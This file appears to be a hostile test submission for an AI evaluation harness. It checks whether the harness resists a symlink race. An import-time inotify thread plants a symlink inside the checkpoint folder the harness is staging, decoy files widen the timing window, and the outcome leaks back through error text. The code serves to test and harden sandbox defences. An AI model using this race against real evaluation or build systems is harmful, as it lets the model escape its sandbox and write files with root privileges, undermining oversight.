"""Hostile submission checkpoint_plant: expect error (report): plants a symlink in the checkpoint folder the harness is copying into."""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "targets.json")) as _f:
        TARGETS = json.load(_f)  # paths the test wants attacked; never the secret itself
except OSError:
    TARGETS = {}


class Report(Exception):
    """Carries what the attack found out through the only channel it has: the trial's error text."""


def report(found):
    for width in (None, 300, 100, 40):  # the harness keeps the last 4000 characters of the error text
        text = json.dumps({str(k): v if width is None else _short(v, width) for k, v in found.items()}, default=repr)
        if len(text) < 3000:
            break
    raise Report("REPORT " + text)


def _short(value, width):
    if isinstance(value, (int, float, bool)) or value is None:
        return value
    return (value if isinstance(value, str) else repr(value))[:width]


def attempt(fn, *args):
    """'ok: <result>' or '<exception type>: <message>', never raising."""
    try:
        return "ok: " + repr(fn(*args))[:200]
    except BaseException as exc:  # noqa: BLE001 - attack code reports everything
        return f"{type(exc).__name__}: {exc}"[:200]


import ctypes
import os
import struct
import threading

import arena

IN_CREATE = 0x100


def _plant_when_staged(scratch, outside):
    """When the harness creates scratch/checkpoint to stage a checkpoint, put a symlink to outside in it."""
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(0)
    libc.inotify_add_watch(fd, os.fsencode(scratch), IN_CREATE)
    while True:
        data = os.read(fd, 65536)
        offset = 0
        while offset < len(data):
            _, _, _, size = struct.unpack_from("iIII", data, offset)
            name = data[offset + 16 : offset + 16 + size].rstrip(b"\0")
            offset += 16 + size
            if name == b"checkpoint":
                os.symlink(outside, os.path.join(scratch, "checkpoint", "b"))
                return


if "ARENA_SCRATCH" in os.environ:  # at import, before the harness stages this trial's checkpoint
    threading.Thread(
        target=_plant_when_staged,
        args=(os.environ["ARENA_SCRATCH"], TARGETS.get("outside", "/nonexistent")),
        daemon=True,
    ).start()


class Agent(arena.Agent):
    def meta_train(self, tasks):
        pass

    def save(self, path):
        for index in range(2000):  # copied before b/: time to plant
            (path / f"a{index:04d}").write_text("decoy")
        (path / "b").mkdir()
        (path / "b" / "planted-by-root.txt").write_text("written by the harness, as root, where the agent chose")

    def load(self, path):
        pass

    def adapt(self, env):
        report({"planted": attempt(os.readlink, str(self.spec.scratch / "checkpoint" / "b"))})

    def act(self, observation, info):
        return 0
